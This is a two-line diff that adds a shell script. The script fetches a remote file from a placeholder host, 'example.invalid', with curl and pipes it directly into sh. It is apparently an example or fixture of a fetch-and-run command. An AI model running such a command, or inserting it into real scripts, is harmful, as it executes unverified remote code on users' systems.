@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL http://example.invalid/run.sh | sh
